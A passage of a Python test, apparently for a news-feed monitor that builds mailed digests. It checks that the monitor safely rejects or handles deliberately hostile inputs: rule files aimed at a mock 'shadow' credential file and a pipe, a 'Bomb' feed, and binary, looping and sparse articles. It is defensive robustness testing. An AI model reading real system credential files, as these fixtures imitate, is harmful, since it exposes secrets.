    (tmp_path / "shadow").write_text("root: secret\n", encoding="utf-8")
    hostile = changed(settings, feeds=feeds, articles=articles, rules=rules, feed_max_items=500)
    ruleset = load_ruleset(rules)
    assert {Path(line.split(":")[0].split(" ")[0]).name for line in ruleset.skipped} == {
        "pipe.yaml",
        "shadow.yaml",
    }
    monitor = Monitor(hostile, ruleset=ruleset)
    summary = run_once(monitor)
    by_name = {source.name: source for source in summary.sources}
    assert by_name["Bomb"].status == "failed"
    assert "the first 500 were read" in (by_name["Many"].warning or "")
    assert by_name["Meduza again"].status == "duplicate"
    assert {name for name in by_name if name.startswith("articles/")} == {
        f"articles/{n}"
        for n in ("binary.txt", "empty.txt", "loop.txt", "pipe.txt", "sparse.txt", "utf16.txt",
                  "x.txt")
    }  # fmt: skip
    assert by_name["Daily Sabah"].new_items == 1 and by_name["Year one"].new_items == 1
    assert summary.delivery is not None and summary.delivery.ok
    (digest,) = maildir_messages(settings.outbox)
    text = digest.get_body(("plain",)).get_content()
    for good in ("Erdogan offers to mediate between Russia", "Kremlin rejects Erdogan",
                 "Why Putin rejected"):  # fmt: skip
        assert good in text, good
    again = run_once(monitor)
    assert again.composed == [] and len(maildir_messages(settings.outbox)) == 1
